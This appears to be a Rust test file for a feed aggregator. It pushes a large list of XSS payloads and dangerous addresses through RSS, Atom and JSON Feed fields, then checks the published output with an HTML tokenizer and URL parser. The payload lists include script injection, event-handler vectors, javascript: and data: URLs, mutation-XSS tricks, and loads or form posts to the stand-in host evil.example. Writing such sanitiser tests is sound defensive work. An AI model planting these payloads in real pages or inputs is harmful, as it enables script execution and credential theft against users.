//! Attacks on readers of feeds, in every field of every dialect, through the real program: no output holds any of them.
//!
//! The outputs are read as a browser or a feed reader would, not searched for words: whatever can be taken for HTML is
//! tokenised, and each address is parsed.

use std::cell::RefCell;
use std::fs;
use std::path::{Path, PathBuf};

use html5ever::buffer_queue::BufferQueue;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use quick_xml::events::Event;
use serde_json::Value;
use url::Url;

use crate::origin::{document, status};
use crate::world::World;

/// Markup that runs code, loads it, or leads to it.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src='data:text/javascript,alert(1)'></script>",
    "<script\t\n>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=x\u{c}onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img src=x:alert(1) onload=eval(src)>",
    "<image href=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0a;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href='javascript://example.org/%0aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=x onmouseover='alert(1)'>x</a>",
    "<a href=x style='background:url(javascript:alert(1))'>x</a>",
    "<a href=x ping='https://evil.example/'>x</a>",
    "<p onpointerenter=alert(1)>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<p title='x\" onload=\"alert(1)'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<object data='https://evil.example/x.swf'></object>",
    "<object><param name=movie value='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<applet code=x.class></applet>",
    "<form action='https://evil.example/'><input name=password type=password></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<video poster='javascript:alert(1)'></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<audio src='data:audio/mp3,x'></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<x-y onclick=alert(1)>x</x-y>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
];

/// Addresses that are none, or lead nowhere good.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'><script>alert(1)</script>",
    "//evil.example/<img src=x onerror=alert(1)>",
    "blob:https://evil.example/1",
    "view-source:javascript:alert(1)",
];

/// Elements that a text may hold.
const ELEMENTS: &str = " a abbr article aside audio b bdi blockquote br caption cite code col colgroup dd del details dfn \
    div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q rp rt ruby s samp \
    section small source span strong sub summary sup table tbody td tfoot th thead time tr u ul var video wbr ";

/// Elements that our own pages hold besides.
const OF_PAGES: &str = " html head body title meta link main nav address svg path ";

/// Attributes that hold an address.
const LINKS: &[&str] = &["href", "src", "cite", "poster", "url", "uri"];

/// Attributes that a text may hold besides.
const ATTRIBUTES: &str = " alt class colspan controls datetime dir headers height hreflang id lang loading rel reversed rowspan \
    scope span start title type width ";

/// Attributes that our own pages hold besides.
const ATTRIBUTES_OF_PAGES: &str = " charset content name property aria-label aria-labelledby aria-current aria-hidden media sizes role itemprop itemscope \
     itemtype viewbox preserveaspectratio d download ";

/// The faults of a text that is read as HTML.
fn faults_of_html(html: &str, is_page: bool) -> Vec<String> {
    struct Sink {
        is_page: bool,
        faults: RefCell<Vec<String>>,
    }
    impl TokenSink for Sink {
        type Handle = ();
        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
            let Token::TagToken(tag) = token else { return TokenSinkResult::Continue };
            let is = |list: &str, name: &str| list.contains(&format!(" {name} "));
            let note = |what: String| self.faults.borrow_mut().push(what);
            if !(is(ELEMENTS, &tag.name) || self.is_page && is(OF_PAGES, &tag.name)) {
                note(format!("<{}>", tag.name));
            }
            for attribute in tag.attrs.iter().filter(|_| tag.kind == TagKind::StartTag) {
                let (name, value) = (&*attribute.name.local, &*attribute.value);
                if LINKS.contains(&name) {
                    if let Some(fault) = fault_of_address(value, self.is_page) {
                        note(fault);
                    }
                } else if !(is(ATTRIBUTES, name) || self.is_page && is(ATTRIBUTES_OF_PAGES, name)) {
                    note(format!("<{} {name}=\"{value}\">", tag.name));
                }
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(Sink { is_page, faults: RefCell::default() }, TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.faults.take()
}

/// Returns the fault of an address, as a browser parses it.
fn fault_of_address(address: &str, may_be_relative: bool) -> Option<String> {
    let is_good = match Url::parse(address) {
        Ok(url) => matches!(url.scheme(), "http" | "https" | "mailto" | "tel" | "ftp"),
        Err(url::ParseError::RelativeUrlWithoutBase) => may_be_relative,
        Err(_) => false,
    };
    (!is_good).then(|| format!("address {address:?}"))
}

/// The faults of an XML document: what a reader takes for HTML, and what it takes for an address.
fn faults_of_xml(xml: &str) -> Vec<String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    let mut faults = Vec::new();
    let mut open: Vec<(String, bool, String)> = Vec::new();
    loop {
        match reader.read_event().unwrap() {
            Event::Eof => return faults,
            Event::Start(tag) => {
                faults.extend(faults_of_tag(&tag));
                let name = tag.name().as_ref().to_owned();
                // Atom says what a text is; RSS does not, so that there each title may be taken for HTML.
                let is_plain =
                    xml.contains("<feed") && !tag.attributes().flatten().any(|it| it.value.as_ref() == "html");
                open.push((name, is_plain, String::new()));
            }
            Event::Empty(tag) => faults.extend(faults_of_tag(&tag)),
            Event::Text(text) => push(&mut open, &text),
            Event::CData(text) => push(&mut open, &text),
            Event::GeneralRef(name) => {
                push(&mut open, &quick_xml::escape::unescape(&format!("&{};", &*name)).unwrap());
            }
            Event::End(_) => {
                let (name, is_plain, text) = open.pop().unwrap();
                match name.as_str() {
                    "title" | "summary" | "content" | "subtitle" | "rights" | "description" | "content:encoded"
                        if !is_plain =>
                    {
                        faults.extend(faults_of_html(&text, false));
                    }
                    "link" | "comments" | "uri" | "wfw:commentRss" | "docs" if !text.trim().is_empty() => {
                        faults.extend(fault_of_address(&text, false));
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }
}

fn push(open: &mut [(String, bool, String)], text: &str) {
    if let Some((_, _, whole)) = open.last_mut() {
        whole.push_str(text);
    }
}

fn faults_of_tag(tag: &quick_xml::events::BytesStart<'_>) -> Vec<String> {
    let mut faults = Vec::new();
    for attribute in tag.attributes() {
        let attribute = attribute.unwrap();
        let name = attribute.key.as_ref().to_owned();
        let value = quick_xml::escape::unescape(&attribute.value).unwrap().into_owned();
        if matches!(name.as_str(), "href" | "src" | "url" | "xmlUrl" | "htmlUrl") {
            faults.extend(fault_of_address(&value, false));
        }
    }
    faults
}

fn faults_of_json(value: &Value) -> Vec<String> {
    match value {
        Value::Array(values) => values.iter().flat_map(faults_of_json).collect(),
        Value::Object(members) => members
            .iter()
            .flat_map(|(name, value)| match (name.as_str(), value.as_str()) {
                ("content_html", Some(html)) => faults_of_html(html, false),
                (name, Some(address)) if name.ends_with("url") => {
                    fault_of_address(address, false).into_iter().collect()
                }
                _ => faults_of_json(value),
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// Every file below a folder.
fn files(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    entries.flat_map(|path| if path.is_dir() { files(&path) } else { vec![path] }).collect()
}

/// Polls a feed of each dialect with as many `attacks` in all, and checks everything that is published of them.
///
/// Two ids that differ in a blank are one.
fn check(feeds: [String; 3], attacks: usize) {
    let [rss, atom, json] = feeds;
    let world = World::new()
        .feed("rss", document(rss))
        .with("dedup = false")
        .feed("atom", document(atom))
        .with("dedup = false")
        .feed("json", status(200).header("content-type", "application/feed+json").body(json))
        .with("dedup = false");
    let config = fs::read_to_string(world.config()).unwrap();
    let config =
        config.replace("[serve]", "[publish]\nentries = 1000\n[serve]").replace("not = [", "lang = \"\"\nnot = [");
    fs::write(world.config(), config).unwrap();
    let told = world.succeeds(&["poll"]);
    assert!(told.contains("3 feeds polled, 0 failed"), "{told}");
    let mut checked = 0;
    for path in files(&world.folder.path().join("data/public")) {
        let name = path.to_str().unwrap();
        // Style and robots are ours alone; the packed ones are the same again.
        if [".css", ".txt", ".gz", ".br", ".zst"].iter().any(|end| name.ends_with(end)) {
            continue;
        }
        let text = fs::read_to_string(&path).unwrap();
        let is_of = |end| path.extension().is_some_and(|extension| extension == end);
        let faults = if is_of("html") {
            faults_of_html(&text, true)
        } else if is_of("json") {
            faults_of_json(&serde_json::from_str(&text).unwrap())
        } else {
            faults_of_xml(&text)
        };
        assert!(faults.is_empty(), "{name}: {faults:#?}");
        checked += 1;
    }
    assert!(checked >= 4, "{checked} outputs");
    // Nothing was kept out: the attacks were met, not avoided.
    let entries = world.json(&["entries", "--topic", "numerique-educatif", "--limit", "1000", "--json"]);
    assert!(entries.len() >= attacks - 1, "{} of {attacks} entries", entries.len());
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace(['\u{c}', '\u{1}'], " ")
}

fn cdata(text: &str) -> String {
    format!("<![CDATA[{}]]>", text.replace("]]>", "]]]]><![CDATA[>"))
}

#[test]
fn no_markup_survives_in_any_field_of_any_dialect() {
    assert!(MARKUP.len() >= 80, "{}", MARKUP.len());
    let numbered = || MARKUP.iter().enumerate();
    let rss: String = numbered()
        .map(|(at, vector)| {
            let (plain, section) = (escaped(vector), cdata(vector));
            format!(
                "<item><guid>g{at}</guid><link>https://a.example/{at}</link><title>Titre {at} {plain}</title>\
                 <description>{section}</description><content:encoded>{section}</content:encoded>\
                 <author>{plain}</author><dc:creator>{section}</dc:creator><category>école numérique</category>\
                 <category domain=\"{plain}\">{plain}</category><source url=\"https://a.example/\">{plain}</source>\
                 <enclosure url=\"https://a.example/{at}.mp3\" type=\"{plain}\" length=\"1\"/></item>"
            )
        })
        .collect();
    let atom: String = numbered()
        .map(|(at, vector)| {
            let plain = escaped(vector);
            format!(
                "<entry><id>urn:x:{at}</id><link href=\"https://b.example/{at}\"/><title type=\"html\">Titre {at} {plain}</title>\
                 <author><name>{plain}</name><email>{plain}</email></author><rights type=\"html\">{plain}</rights>\
                 <category term=\"école numérique\"/><category term=\"{plain}\" label=\"{plain}\" scheme=\"{plain}\"/>\
                 <summary type=\"html\">{plain}</summary>\
                 <content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">{}</div></content></entry>",
                if vector.contains("]]>") || vector.contains("<!--") || vector.contains("plaintext") { &plain } else { *vector }
            )
        })
        .collect();
    let items: Vec<Value> = numbered()
        .map(|(at, vector)| {
            serde_json::json!({
                "id": format!("https://c.example/{at}"), "url": format!("https://c.example/{at}"),
                "title": format!("Titre {at} {vector}"), "content_html": vector, "summary": vector,
                "authors": [{"name": vector}], "tags": ["école numérique", vector], "language": vector,
                "attachments": [{"url": "https://c.example/a.mp3", "mime_type": vector}],
            })
        })
        .collect();
    let title = escaped(MARKUP[13]);
    check([
        format!("<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><channel><title>{title}</title><link>https://a.example/</link><description>{title}</description><copyright>{title}</copyright><generator>{title}</generator>{rss}</channel></rss>"),
        format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>urn:x</id><title type=\"html\">{title}</title><subtitle type=\"html\">{title}</subtitle><generator uri=\"javascript:alert(1)\">{title}</generator>{atom}</feed>"),
        serde_json::json!({"version": "https://jsonfeed.org/version/1.1", "title": MARKUP[13], "description": MARKUP[0], "items": items}).to_string(),
    ], 3 * MARKUP.len());
}

#[test]
fn no_address_survives_in_any_field_of_any_dialect() {
    let numbered = || ADDRESSES.iter().enumerate();
    let rss: String = numbered()
        .map(|(at, address)| {
            let plain = escaped(address);
            format!(
                "<item><guid isPermaLink=\"true\">{plain}</guid><link>{plain}</link><title>Titre {at}</title>\
                 <category domain=\"{plain}\">école numérique</category><comments>{plain}</comments>\
                 <wfw:commentRss>{plain}</wfw:commentRss><source url=\"{plain}\">x</source>\
                 <enclosure url=\"{plain}\" type=\"audio/mpeg\" length=\"1\"/>\
                 <description>&lt;a href=\"{plain}\"&gt;texte {at}&lt;/a&gt;</description></item>"
            )
        })
        .collect();
    let atom: String = numbered()
        .map(|(at, address)| {
            let plain = escaped(address);
            let links = ["alternate", "related", "via", "replies", "enclosure"]
                .map(|rel| format!("<link rel=\"{rel}\" href=\"{plain}\"/>"));
            format!(
                "<entry><id>{plain}</id>{}<title>Titre {at}</title><author><name>a</name><uri>{plain}</uri></author>\
                 <category term=\"école numérique\" scheme=\"{plain}\"/><content type=\"audio/mpeg\" src=\"{plain}\"/></entry>",
                links.concat()
            )
        })
        .collect();
    let items: Vec<Value> = numbered()
        .map(|(at, address)| {
            serde_json::json!({
                "id": format!("{at}"), "url": address, "external_url": address, "image": address, "banner_image": address,
                "title": format!("Titre {at}"), "content_text": format!("texte {at}"), "tags": ["école numérique"],
                "authors": [{"name": "a", "url": address, "avatar": address}], "attachments": [{"url": address, "mime_type": "a/b"}],
            })
        })
        .collect();
    check([
        format!("<rss version=\"2.0\" xmlns:wfw=\"http://wellformedweb.org/CommentAPI/\"><channel><title>a</title><link>javascript:alert(1)</link><description>b</description><docs>javascript:alert(1)</docs>{rss}</channel></rss>"),
        format!("<feed xmlns=\"http://www.w3.org/2005/Atom\"><id>javascript:alert(1)</id><title>b</title><link href=\"javascript:alert(1)\"/><link rel=\"self\" href=\"javascript:alert(1)\"/><icon>javascript:alert(1)</icon><logo>javascript:alert(1)</logo>{atom}</feed>"),
        serde_json::json!({"version": "https://jsonfeed.org/version/1.1", "title": "c", "home_page_url": "javascript:alert(1)", "feed_url": "javascript:alert(1)", "icon": "javascript:alert(1)", "items": items}).to_string(),
    ], 3 * ADDRESSES.len());
}
